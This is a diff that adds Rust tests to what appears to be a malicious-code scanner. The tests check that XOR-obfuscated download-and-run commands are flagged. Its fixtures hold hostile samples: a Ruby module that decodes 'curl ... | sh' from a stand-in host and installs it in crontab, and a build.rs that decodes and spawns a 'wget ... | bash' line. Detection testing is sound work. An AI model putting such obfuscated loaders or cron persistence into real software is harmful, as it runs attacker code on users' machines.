@@ -177,3 +177,48 @@ fn hostile_go_rust_and_ruby_text_never_panics() {
         let _ = flows(&[(path, text)]);
     }
 }
+
+#[test]
+fn ruby_xor_decoded_byte_list_that_becomes_a_download_and_run_line_is_download_exec() {
+    // "curl -s https://a.invalid/x | sh" with every byte XOR 0x21.
+    let plain = b"curl -s https://a.invalid/x | sh";
+    let bytes: Vec<String> = plain.iter().map(|b| format!("0x{:02x}", b ^ 0x21)).collect();
+    let rb = format!(
+        "module Table\n  ROW = [{}].freeze\n  K = 0x21\n\n  def self.row\n    ROW.map {{ |b| (b ^ K).chr }}.join\n  end\n\n\
+         \x20 def self.prime\n    IO.popen(%w[crontab -], 'w') {{ |io| io.write(\"*/5 * * * * \" + row) }}\n  end\nend\n",
+        bytes.join(", ")
+    );
+    let out = flows(&[("lib/table.rb", &rb)]);
+    assert_eq!(
+        ends(&out),
+        vec![(RuleId::DownloadExec, "lib/table.rb".to_owned(), 6, Some("lib/table.rb".to_owned()), 6)]
+    );
+    assert!(
+        out[0].finding.note.as_deref().unwrap_or("").contains("curl -s https://a.invalid/x | sh"),
+        "{:?}",
+        out[0].finding.note
+    );
+}
+
+#[test]
+fn rust_xor_decoded_bytes_collected_into_a_shell_command_is_download_exec() {
+    let plain = b"wget -qO- https://b.invalid/i.sh | bash";
+    let bytes: Vec<String> = plain.iter().map(|b| format!("{}", b ^ 7)).collect();
+    let rs = format!(
+        "use std::process::Command;\n\nconst T: [u8; {}] = [{}];\n\nfn main() {{\n\
+         \x20   let c: String = T.iter().map(|b| (b ^ 7) as char).collect();\n\
+         \x20   let _ = Command::new(\"sh\").arg(\"-c\").arg(&c).spawn();\n}}\n",
+        plain.len(),
+        bytes.join(", ")
+    );
+    let out = flows(&[("build.rs", &rs)]);
+    assert_eq!(out.len(), 1, "{out:?}");
+    assert_eq!(out[0].finding.rule, RuleId::DownloadExec);
+}
+
+#[test]
+fn a_decoded_list_that_spells_harmless_text_is_nothing() {
+    let rb = "module Greeting\n  BYTES = [0x48, 0x69, 0x21]\n\n  def self.text\n    BYTES.map { |b| (b ^ 0).chr }.join\n  end\n\n\
+              \x20 def self.show\n    system('echo ' + text)\n  end\nend\n";
+    assert_eq!(ends(&flows(&[("lib/greeting.rb", rb)])), vec![]);
+}
